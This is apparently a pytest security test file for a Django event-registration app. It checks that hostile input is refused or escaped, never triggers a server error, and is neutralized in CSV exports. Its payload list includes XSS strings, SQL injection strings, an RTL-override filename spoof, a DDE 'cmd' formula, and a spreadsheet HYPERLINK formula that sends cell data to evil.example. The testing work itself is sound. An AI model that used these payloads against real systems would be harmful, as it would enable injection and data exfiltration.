"""Hostile text through every text field people can fill in: markup and script, SQL-ish text,
10,000-character strings, text-direction overrides, emoji and combining marks, NUL bytes, lone
surrogates and spreadsheet formulas.

Every answer is below 500 (refusals are 4xx, and the API's are JSON naming the field). What is
accepted comes back as TEXT wherever it is shown: pages and the emails' HTML part escape it, the
badge sheet prints it literally (and WeasyPrint fetches nothing it names), CSV exports neutralize
formulas. The number of payloads tried and of failures is written for bench/bench_trust_hostile.py.
"""

import collections
import csv
import http.server
import io
import json
import threading
import uuid
from urllib.parse import quote, urlencode

import pypdf
import pytest
from django.core import mail
from django.urls import reverse
from django.utils.html import escape

from registrations.badges.sheets import build_badge_sheet
from registrations.models import Registration
from registrations.seats import links
from tests.test_authorization_matrix import write_figures
from tests.trust_world import build_world

PAYLOADS = {
    "script": '<script>alert("pwned")</script>',
    "img_onerror": '"><img src=x onerror=alert(1)>',
    "markup": "<b>Bold</b> & <i>co</i>",
    "template": "{{ settings.SECRET_KEY }} {% debug %}",
    "sql_drop": "Robert'); DROP TABLE registrations_registration;--",
    "sql_or": "' OR '1'='1' --",
    "sql_sleep": "1; SELECT pg_sleep(5)--",
    "apostrophe": "Siobhán O'Brien-Núñez",
    "long": "A" * 10_000,
    "rtl_override": "Maria \u202egnp.exe\u202c",
    "rtl_isolate": "\u2067مرحبا\u2069 Ana",
    "emoji": "Ana 👩🏽\u200d🌾🎉",
    "combining": "Z\u0337\u031ba\u0338l\u0334g\u0335o",
    "arabic_cjk": "مرحبا 你好 こんにちは",
    "nul": "Ana\x00Lopez",
    "control": "Ana\x07\x1bLopez",
    "newline": "Ana\nLopez",
    "lone_surrogate": "Ana\ud800Lopez",
    "formula_eq": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "formula_plus": "+1+cmd|' /C calc'!A0",
    "formula_at": "@SUM(1+1)",
    "fetch_img": '<img src="http://127.0.0.1:{port}/fetched.png">',
    "fetch_css": "<link rel=stylesheet href='http://127.0.0.1:{port}/fetched.css'>",
    "url": "http://127.0.0.1:{port}/x",
}
# Every personal field people type into (the email has its own checks), and the promo code.
TEXT_FIELDS = [*(name for name in Registration.GIVEN_FIELDS if name != "email"), "promo_code"]
ALL_FIELDS = [*TEXT_FIELDS, "email", "sector", "ticket_type", "language"]

FIGURES = collections.Counter()
FAILURES = []


@pytest.fixture(scope="module", autouse=True)
def _report():
    yield
    write_figures(
        "hostile",
        {
            "payloads": len(PAYLOADS),
            "tried": FIGURES["tried"],
            "accepted": FIGURES["accepted"],
            "refused": FIGURES["refused"],
            "server_errors": FIGURES["server_errors"],
            "rendering_failures": FIGURES["rendering_failures"],
            "failures": FAILURES[:50],
        },
    )


class FetchTrap:
    """A local HTTP server that counts every request: nothing we render may call it."""

    def __init__(self):
        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                hits.append(self.path)
                self.send_response(404)
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def trap():
    trap = FetchTrap()
    yield trap
    trap.close()


@pytest.fixture
def world(db, settings):
    settings.RATE_LIMITS = False
    settings.RATELIMIT_ENABLE = False
    return build_world()


def payloads(port=0):
    return {name: value.replace("{port}", str(port)) for name, value in PAYLOADS.items()}


def _check(label, response):
    """Count one try; a 5xx is a failure; an API refusal must be JSON with a code."""
    FIGURES["tried"] += 1
    if response.status_code >= 500:
        FIGURES["server_errors"] += 1
        FAILURES.append(f"{label}: {response.status_code}")
        return False
    if response.status_code >= 400:
        FIGURES["refused"] += 1
    else:
        FIGURES["accepted"] += 1
    return True


def _render_failure(label, detail):
    FIGURES["rendering_failures"] += 1
    FAILURES.append(f"{label}: {detail}")


def _base_registration():
    return {
        "first_name": "Ana",
        "email": f"ana-{uuid.uuid4().hex[:12]}@hostile.example",
        "sector": "resident",
        "ticket_type": "resident",
        "language": "en",
    }


def _post_json_raw(client, path, body_text, **extra):
    return client.generic(
        "POST", path, body_text.encode("utf-8", "surrogatepass"), "application/json", **extra
    )


def _encode(data):
    # What a hostile client can put on the wire: a lone surrogate goes as its (invalid) UTF-8 bytes.
    return urlencode(data, encoding="utf-8", errors="surrogatepass")


def _post_form(client, path, data):
    return client.generic("POST", path, _encode(data), "application/x-www-form-urlencoded")


def _get(client, path, data):
    return client.get(f"{path}?{_encode(data)}")


def _as_text_in_html(html, value):
    """The value appears escaped, and never as live markup."""
    if any(ch in value for ch in "<>&\"'"):
        return value not in html or value == escape(value)
    return True


# ---------------------------------------------------------------------------------------------
# No 5xx, refusals name the field


def test_registration_api_answers_every_hostile_field_without_a_server_error(world):
    summit = world.home.summit
    path = reverse("api-registrations", args=[summit.slug])
    client = world.clients["anonymous"]
    failures = []
    for field in ALL_FIELDS:
        for name, value in payloads().items():
            body = {**_base_registration(), field: value}
            # json.dumps keeps a lone surrogate as a \ud800 escape, as a hostile client would send it.
            response = _post_json_raw(client, path, json.dumps(body))
            label = f"API {field}={name}"
            if not _check(label, response):
                failures.append(label)
                continue
            if response.status_code == 400:
                answer = response.json()
                if name == "lone_surrogate":
                    # Not text at all: the whole body is refused before any field is read.
                    if answer.get("code") != "malformed_json":
                        failures.append(f"{label}: {answer}")
                elif answer.get("code") != "invalid" or field not in answer.get("errors", {}):
                    failures.append(f"{label}: 400 without the field named: {answer}")
            elif response.status_code != 201:
                failures.append(f"{label}: {response.status_code} {response.content[:200]}")
    assert failures == []


def test_registration_page_and_manage_edit_and_assisted_page_refuse_or_accept_without_a_server_error(world):
    summit = world.home.summit
    person = world.home.registrations["A"]
    manage = reverse("registrations:manage", args=[links.manage_token(person)])
    pages = {
        "page": (world.clients["anonymous"], reverse("registrations:summit", args=[summit.slug]), {}),
        "assisted": (world.clients["navigator"], reverse("registrations:assisted", args=[summit.slug]), {}),
        "manage": (world.clients["anonymous"], manage, {"action": "edit"}),
    }
    failures = []
    for where, (client, path, extra) in pages.items():
        for field in [*TEXT_FIELDS, "email"]:
            if where == "manage" and field == "promo_code":
                continue
            for name, value in payloads().items():
                data = {**_base_registration(), **extra, field: value}
                if where == "manage":
                    data["email"] = person.email if field != "email" else value
                response = _post_form(client, path, data)
                label = f"{where} {field}={name}"
                if not _check(label, response):
                    failures.append(label)
                elif response.status_code not in (200, 302, 400):
                    failures.append(f"{label}: {response.status_code}")
                elif response.status_code in (200, 400) and not _as_text_in_html(
                    response.content.decode(), value
                ):
                    failures.append(f"{label}: shown as markup")
    assert failures == []


def test_door_badge_and_assignment_inputs_answer_without_a_server_error(world):
    place = world.home
    slug = place.summit.slug
    volunteer, planner = world.clients["volunteer"], world.clients["planner"]
    person = place.registrations["A"]
    failures = []
    for name, value in payloads().items():
        attempts = [
            ("door search", _get(volunteer, reverse("api-checkins-search", args=[slug]), {"q": value})),
            (
                "check-in code",
                _post_json_raw(volunteer, reverse("api-checkins", args=[slug]), json.dumps({"code": value})),
            ),
            (
                "check-in device",
                _post_json_raw(
                    volunteer,
                    reverse("api-checkins", args=[slug]),
                    json.dumps({"code": place.code, "device": value, "nonce": value}),
                ),
            ),
            (
                "batch",
                _post_json_raw(
                    volunteer,
                    reverse("api-checkins-batch", args=[slug]),
                    json.dumps({"scans": [{"code": value, "device": value, "scanned_at": value}]}),
                ),
            ),
            (
                "tap",
                _post_json_raw(
                    volunteer, reverse("api-checkins-tap", args=[slug]), json.dumps({"id": value})
                ),
            ),
            (
                "undo",
                _post_json_raw(
                    volunteer, reverse("api-checkins-undo", args=[slug]), json.dumps({"id": value})
                ),
            ),
            (
                "assignment move",
                _post_json_raw(
                    planner,
                    reverse("api-assignment", args=[slug, person.public_id]),
                    json.dumps({"group": value}),
                    REQUEST_METHOD="PATCH",
                ),
            ),
            (
                "assignment runs",
                _post_json_raw(
                    planner,
                    reverse("api-assignment-runs", args=[slug]),
                    json.dumps({"dry_run": True, "rules": {"org_cap": value, "sector_ceiling": value}}),
                ),
            ),
            (
                "planner move page",
                _post_form(
                    planner,
                    reverse("planner-groups", args=[slug]),
                    {"action": "move", "registration": value, "group": value},
                ),
            ),
            (
                "badge sheet API",
                _post_json_raw(
                    planner,
                    reverse("api-badge-sheets", args=[slug]),
                    json.dumps({"layout": value, "group": value, "registration": value, "sort": value}),
                ),
            ),
            (
                "badge sheet page",
                _post_form(
                    planner,
                    reverse("registrations:badge-sheets", args=[slug]),
                    {"layout": value, "selection": "registration", "registration": value, "sort": value},
                ),
            ),
            (
                "badge sheet page group",
                _post_form(
                    planner,
                    reverse("registrations:badge-sheets", args=[slug]),
                    {"layout": "letter-6up", "selection": "group", "group": value, "sort": value},
                ),
            ),
            (
                "badge sheet page name search",
                _get(planner, reverse("registrations:badge-sheets", args=[slug]), {"q": value}),
            ),
            (
                "assignment page name search",
                _get(planner, reverse("planner-groups", args=[slug]), {"q": value}),
            ),
            (
                "admin name search",
                _get(planner, reverse("admin:registrations_registration_changelist"), {"q": value}),
            ),
            (
                "registrations list filter",
                _get(
                    planner,
                    reverse("api-registrations", args=[slug]),
                    {"status": value, "sector": value, "ticket_type": value, "group": value},
                ),
            ),
            (
                "door link label",
                _post_form(planner, reverse("registrations:door-links", args=[slug]), {"label": value}),
            ),
            (
                "send link",
                _post_form(
                    world.clients["anonymous"],
                    reverse("registrations:send-link", args=[slug]),
                    {"email": value},
                ),
            ),
            (
                "language",
                _post_form(
                    world.clients["anonymous"], reverse("set_language"), {"language": value, "next": value}
                ),
            ),
            (
                "manage token",
                world.clients["anonymous"].get(
                    "/r/" + quote(value[:2000], safe="", errors="surrogatepass") + "/"
                ),
            ),
        ]
        for where, response in attempts:
            label = f"{where}={name}"
            if not _check(label, response):
                failures.append(label)
            elif _json_error_without_code(response):
                failures.append(f"{label}: JSON error without a code")
    assert failures == []


def _json_error_without_code(response):
    if response.status_code < 400 or not response.get("Content-Type", "").startswith("application/json"):
        return False
    body = response.json()
    return "code" not in body and "result" not in body


# ---------------------------------------------------------------------------------------------
# What is accepted is shown as text


def _register(world, client, **fields):
    body = {**_base_registration(), **fields}
    response = _post_json_raw(
        client, reverse("api-registrations", args=[world.home.summit.slug]), json.dumps(body)
    )
    return response


def test_accepted_hostile_text_is_escaped_in_pages_and_emails(
    world, trap, django_capture_on_commit_callbacks
):
    accepted = {}
    for name, value in payloads(trap.port).items():
        mail.outbox.clear()
        with django_capture_on_commit_callbacks(execute=True):
            response = _register(
                world,
                world.clients["anonymous"],
                first_name=value[:100],
                last_name=value[:100],
                organization=value[:200],
                dietary_needs=value[:1000],
            )
        _check(f"render {name}", response)
        if response.status_code != 201:
            continue
        registration = Registration.objects.get(public_id=response.json()["id"])
        accepted[name] = (value[:100], registration)
        manage = world.clients["anonymous"].get(links.manage_path(registration)).content.decode()
        if escape(value[:100]) not in manage or not _as_text_in_html(manage, value[:100]):
            _render_failure(f"manage page {name}", "not shown as escaped text")
        message = mail.outbox[-1]
        html = message.alternatives[0][0]
        # The form can name any address: nothing typed into it reaches that inbox, escaped or not.
        if value[:100] in message.body or escape(value[:100]) in html or value[:100] in html:
            _render_failure(f"email {name}", "carries what was typed into the form")
    # Staff pages that list people.
    slug = world.home.summit.slug
    planner = world.clients["planner"]
    pages = {
        "registrations admin": planner.get(reverse("admin:registrations_registration_changelist")),
        "planner groups": planner.get(reverse("planner-groups", args=[slug])),
        "door dashboard": planner.get(reverse("registrations:door-dashboard", args=[slug])),
    }
    for where, response in pages.items():
        html = response.content.decode()
        for name, (value, _registration) in accepted.items():
            if not _as_text_in_html(html, value):
                _render_failure(f"{where} {name}", "shown as markup")
    assert trap.hits == []
    assert {"script", "markup", "sql_drop", "emoji", "combining", "formula_eq", "fetch_img"} <= set(accepted)
    assert {"nul", "control", "rtl_override", "rtl_isolate", "lone_surrogate", "newline"}.isdisjoint(accepted)
    assert FAILURES == [], FAILURES


BADGE_PAYLOADS = ["script", "markup", "sql_or", "apostrophe", "fetch_img", "formula_at", "template"]
# Printed, but the fonts here have no glyphs for them (the PDF's text layer comes out empty):
# these only have to render without error and fetch nothing.
UNPRINTABLE_HERE = ["arabic_cjk", "emoji", "combining"]


def _squeeze(text):
    return "".join(text.split())


def _badges(world, values, names):
    people = []
    for index, name in enumerate(names):
        registration = Registration.objects.get(pk=world.home.registrations["A"].pk)
        registration.pk = None
        registration.public_id = uuid.uuid4()
        registration.email = f"badge-{name}-{index}@hostile.example"
        registration.badge_code_hash = None
        registration.badge_name = ""
        registration.first_name = values[name][:60]
        registration.last_name = ""
        registration.organization = values[name]
        registration.save()
        people.append(registration)
    return people


def test_badge_sheet_prints_hostile_text_literally_and_fetches_nothing(world, trap):
    values = payloads(trap.port)
    people = _badges(world, values, BADGE_PAYLOADS)

    sheet = build_badge_sheet(people, layout="letter-6up")
    reader = pypdf.PdfReader(io.BytesIO(sheet.pdf))
    text = _squeeze(" ".join(page.extract_text() for page in reader.pages))
    others = build_badge_sheet(_badges(world, values, UNPRINTABLE_HERE), layout="letter-6up")

    FIGURES["tried"] += len(BADGE_PAYLOADS) + len(UNPRINTABLE_HERE)
    for name in BADGE_PAYLOADS:
        if _squeeze(values[name]) not in text:
            _render_failure(f"badge {name}", f"{values[name]!r} not printed literally")
    assert others.count == len(UNPRINTABLE_HERE)
    assert trap.hits == []
    assert _squeeze('<script>alert("pwned")</script>') in text
    assert _squeeze("<b>Bold</b> & <i>co</i>") in text
    assert [f for f in FAILURES if f.startswith("badge")] == []


def test_csv_exports_neutralize_formulas_and_keep_hostile_text(world):
    values = payloads()
    place = world.home
    created = []
    for name in ("formula_eq", "formula_plus", "formula_at", "script", "sql_drop"):
        response = _register(
            world,
            world.clients["anonymous"],
            first_name=values[name][:100],
            organization=values[name][:200],
            share_with_group=True,
        )
        _check(f"csv {name}", response)
        assert response.status_code == 201, response.content
        created.append(Registration.objects.get(public_id=response.json()["id"]))
    for registration in created:
        registration.group = place.groups[0]
        registration.save(update_fields=["group"])
    planner = world.clients["planner"]
    export = planner.get(reverse("api-registrations-export", args=[place.summit.slug])).content.decode(
        "utf-8-sig"
    )
    roster = planner.get(
        reverse("roster-csv", args=[place.summit.slug, place.groups[0].slug])
    ).content.decode()

    for where, content in (("export", export), ("roster", roster)):
        cells = [cell for row in csv.reader(io.StringIO(content)) for cell in row]
        dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
        FIGURES["tried"] += 1
        if dangerous:
            _render_failure(f"{where} CSV", f"formula cells {dangerous[:3]}")
        assert dangerous == []
        assert "'" + values["formula_eq"][:100] in cells
        assert values["script"][:100] in cells
